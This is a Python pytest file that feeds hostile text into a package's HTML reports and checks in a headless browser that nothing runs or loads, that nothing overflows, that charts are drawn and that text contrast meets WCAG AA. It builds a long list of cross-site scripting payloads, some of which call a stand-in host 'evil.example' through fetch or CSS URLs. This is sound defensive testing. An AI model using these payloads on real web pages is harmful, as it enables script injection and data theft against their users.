"""Reports in a real browser: nothing runs, loads or overflows, and every chart is drawn."""

import json
from datetime import UTC, datetime, timedelta

import pytest
from markupsafe import escape

from clinia_nb import BulkResult
from clinia_nb.display import formats
from clinia_nb.report.report import write_report
from clinia_nb.sandbox.samples import list_samples

WIDTHS = (360, 760, 1_200)
CALLS = ("alert(1)", "confirm`1`", "fetch('https://evil.example')", "document.title='owned'")
SHAPES = (
    "<script>{}</script>", "</script><script>{}</script>", "</style><script>{}</script>",
    "</title><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    "<img src=x onerror={}>", "<img src=https://evil.example/x.png onload={}>", "<svg onload={}>",
    "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x>",
    "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>", "<form action=javascript:{}><button autofocus onfocus={}>",
    "<input autofocus onfocus={}>", "<details open ontoggle={}>", "<video src=x onerror={}>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<marquee onstart={}>",
    "<math><mtext></mtext><script>{}</script></math>", '" autofocus onfocus="{}" x="',
    "' onmouseover='{}' x='", "`onload={}`", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=https://evil.example/><script src=x>{}</script>",
    "<link rel=stylesheet href=https://evil.example/x.css onload={}>",
    "<style>@import 'https://evil.example/x.css';/*{}*/</style>",
    "<style>*{{background:url(https://evil.example/?{})}}</style>",
    "}}body{{background:url(https://evil.example/?{})}}", "<textarea autofocus onfocus={}>",
    "<select autofocus onfocus={}>", "<audio src=x onerror={}>",
    "<isindex type=image src=1 onerror={}>",
    "<xss style=animation-name:x onanimationstart={}>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<plaintext>{}", "<!--{}",
    "<![CDATA[{}",
    "<scr\x00ipt>{}</scr\x00ipt>", "\u202e<script>{}</script>", "＜script＞{}＜/script＞",
    "<SCRIPT/XSS>{}</SCRIPT>", "<<script>{}//<</script>", "{{{{{}}}}}", "{{% raw %}}{}",
    "${{{}}}", "<use href='data:image/svg+xml,<svg onload={}>'>",
    "<set onbegin={} attributeName=x>",
)  # fmt: skip
INJECTIONS = [
    shape.replace("{}", call).replace("{{", "{").replace("}}", "}")
    for shape in SHAPES
    for call in CALLS
]
# What closes the place that a text stands in, before and behind each of them.
CLOSING = ("", "x", '"', "'", ">", '">', "</bdi>", "</td>", "</text></svg>", "</style>")
THOUSANDS = [f"{close}{text}{close}" for close in CLOSING for text in INJECTIONS]
# The least contrast of texts with the ground that they stand on, by WCAG's formula; AA asks 4.5.
CONTRAST = """() => {
    const parts = (color) => color.match(/[0-9.]+/g).map(Number);
    const linear = (v) => (v /= 255) <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4;
    const light = ([r, g, b]) => 0.2126 * linear(r) + 0.7152 * linear(g) + 0.0722 * linear(b);
    const ground = (node) => {
        for (; node; node = node.parentElement) {
            const found = parts(getComputedStyle(node).backgroundColor);
            if (found.length === 3 || found[3] === 1) return found;
        }
        return [255, 255, 255];
    };
    const worst = [9, ""];
    const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walk.nextNode()) {
        const text = walk.currentNode, owner = text.parentElement;
        if (!text.data.trim() || !owner.checkVisibility()) continue;
        if (owner.closest("title, style")) continue;
        const style = getComputedStyle(owner);
        const ink = parts(owner.closest("svg") ? style.fill : style.color);
        const [one, other] = [light(ink), light(ground(owner))].sort((a, b) => b - a);
        const ratio = (one + 0.05) / (other + 0.05);
        if (ratio < worst[0]) worst.splice(0, 2, ratio, text.data);
    }
    return worst;
}"""
# Texts of a chart that lie over each other; those with an outline are drawn twice on purpose.
OVERLAPS = """[...document.querySelectorAll(".chart svg")].flatMap(svg => {
    const shown = [...svg.querySelectorAll("text:not([stroke])")].filter(
        text => text.checkVisibility() && text.textContent.trim()
            && text.getAttribute("opacity") !== "0");
    const boxes = shown.map(text => text.getBoundingClientRect());
    return boxes.flatMap((one, i) => boxes.slice(i + 1).flatMap((other, j) =>
        Math.min(one.right, other.right) - Math.max(one.left, other.left) > 1
        && Math.min(one.bottom, other.bottom) - Math.max(one.top, other.top) > 3
            ? [`${shown[i].textContent} | ${shown[i + 1 + j].textContent}`] : []));
})"""
OVERFLOW = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
FOREIGN = "document.querySelectorAll('script,a,img,iframe,link,form,object,embed,base').length"
MARKS = """[...document.querySelectorAll('.chart svg')].filter(svg => svg.checkVisibility())
    .map(svg => svg.querySelectorAll('path, rect, text, line').length)"""
STRANGE = ["W" * 10_000, "\u202e\u2066" * 50 + "abc", "نص طويل " * 60, "👩‍👩‍👧‍👦" * 99,
           "\x00\x1b[2J\r\n\t" * 30,
           "a\u0300" * 500, "https://evil.example/" + "x/" * 300]  # fmt: skip


def bulk_of(texts):
    """A bulk that has each text in every field."""
    begin = datetime(2026, 3, 9, 12, tzinfo=UTC)
    receipts = []
    for number, text in enumerate(texts):
        time = begin + timedelta(seconds=number)
        receipts.append({
            "id": f"{text}{number}", "type": text, "targetType": text, "action": text,
            "status": "FAILURE", "taskId": text,
            "receivedAt": time.isoformat(),
            "completedAt": (time + timedelta(seconds=1 + number % 7)).isoformat(),
            "error": {"type": text, "code": 404, "message": text, "details": [{"message": text}]},
            "pipelineExecution": {"id": text, "pipelineDefinitionId": text, "status": text},
        })  # fmt: skip
    body = json.dumps({"status": texts[0], "receipts": receipts}).encode()
    return BulkResult.from_json(body, source_key=texts[-1], bulk_id=texts[0])


def sample_of(name):
    sample = next(sample for sample in list_samples() if sample.name == name)
    return BulkResult.from_json(
        sample.path, source_key=sample.source_key, bulk_id=sample.bulk_id, kind=sample.kind
    )


@pytest.fixture(scope="module")
def attempts(tmp_path_factory):
    bulks = [sample_of("outage"), sample_of("retry")]
    return write_report(bulks, tmp_path_factory.mktemp("attempts") / "report.html")


def look(chromium, path, widths, *, scripts=True, pictured=True):
    """Open a page; give its picture at the first width, and its charts' marks at every one.

    Nothing may run or be loaded, and nothing be wider than the page.
    """
    context = chromium.new_context(
        viewport={"width": widths[0], "height": 900}, java_script_enabled=scripts
    )
    page, seen = context.new_page(), []
    page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: seen.append(str(error)))
    page.on("console", lambda message: seen.append(message.text))
    page.on("request", lambda request: seen.append(request.url))
    page.route(
        "**/*", lambda route: route.abort() if "http" in route.request.url else route.continue_()
    )
    page.goto(path.as_uri())
    page.wait_for_timeout(150)
    picture = page.screenshot(full_page=True) if pictured else None
    marks = [seen_at(page, width) for width in widths] if scripts else []
    context.close()
    assert seen == [path.as_uri()]
    return picture, marks


def seen_at(page, width):
    page.set_viewport_size({"width": width, "height": 900})
    assert page.title() != "owned"
    assert page.evaluate(OVERFLOW) <= 0
    assert page.evaluate(OVERLAPS) == []
    assert page.evaluate(FOREIGN) == 0
    return page.evaluate(MARKS)


def looks_right(chromium, path, charts):
    picture, marks = look(chromium, path, WIDTHS)
    for at_width in marks:
        assert len(at_width) == charts
        assert all(count >= 3 for count in at_width)
    assert look(chromium, path, WIDTHS, scripts=False)[0] == picture


@pytest.mark.parametrize("sample", list_samples(), ids=lambda sample: sample.name)
def test_the_report_of_a_sample_is_drawn_whole_and_does_nothing(sample, chromium, tmp_path):
    bulk = sample_of(sample.name)
    path = write_report(bulk, tmp_path / "report.html")
    failed = bulk.summary.outcomes["failed"] > 0
    looks_right(chromium, path, charts=3 + failed)


def test_attempts_side_by_side_fit_the_page(chromium, attempts):
    looks_right(chromium, attempts, charts=2 + 4 + 4)


@pytest.mark.parametrize("redact", [True, False])
@pytest.mark.parametrize("texts", [INJECTIONS, STRANGE], ids=["injections", "strange"])
def test_hostile_text_runs_nothing_loads_nothing_and_fits(texts, redact, chromium, tmp_path):
    path = write_report(bulk_of(texts), tmp_path / "report.html", redact=redact)
    looks_right(chromium, path, charts=4)


def test_thousands_of_injections_run_nothing_load_nothing_and_fit(chromium, tmp_path, monkeypatch):
    for most in ("_MOST_CAUSES", "_MOST_TYPES"):  # all of them on one page
        monkeypatch.setattr(f"clinia_nb.report.chapter.{most}", 10_000)
    path = write_report(bulk_of(THOUSANDS), tmp_path / "report.html", redact=False)
    html = path.read_text(encoding="utf-8")
    shown = {text for text in THOUSANDS if escape(formats.harmless(text)) in html}
    assert len(shown) > 1_500
    look(chromium, path, [760], pictured=False)


def test_each_injection_alone_at_the_head_of_a_page(chromium, tmp_path):
    for number, text in enumerate(INJECTIONS[::47]):
        bulk = bulk_of([text] * 6)
        path = write_report(bulk, tmp_path / f"{number}.html", redact=False)
        look(chromium, path, [760], pictured=False)


def test_all_text_has_the_contrast_that_aa_asks_for(chromium, tmp_path):
    bulks, page = [sample_of("mixed"), sample_of("retry")], chromium.new_page()
    for redact in (True, False):
        path = write_report(bulks, tmp_path / "report.html", redact=redact)
        page.goto(path.as_uri())
        for scheme in ("light", "dark"):
            page.emulate_media(color_scheme=scheme)
            least, text = page.evaluate(CONTRAST)
            assert least >= 4.5, text
    page.close()


@pytest.mark.parametrize(("paper", "width"), [("A4", 680), ("Letter", 702)])
def test_it_prints_on_few_pages_and_nothing_is_wider_than_the_paper(
    paper, width, chromium, attempts
):
    page = chromium.new_page(viewport={"width": width, "height": 900})
    page.goto(attempts.as_uri())
    page.emulate_media(media="print")
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    printed = page.pdf(format=paper)
    page.close()
    # Two bulks and their comparison; no problem is split between pages.
    assert 7 <= printed.count(b"/Type /Page\n") <= 9
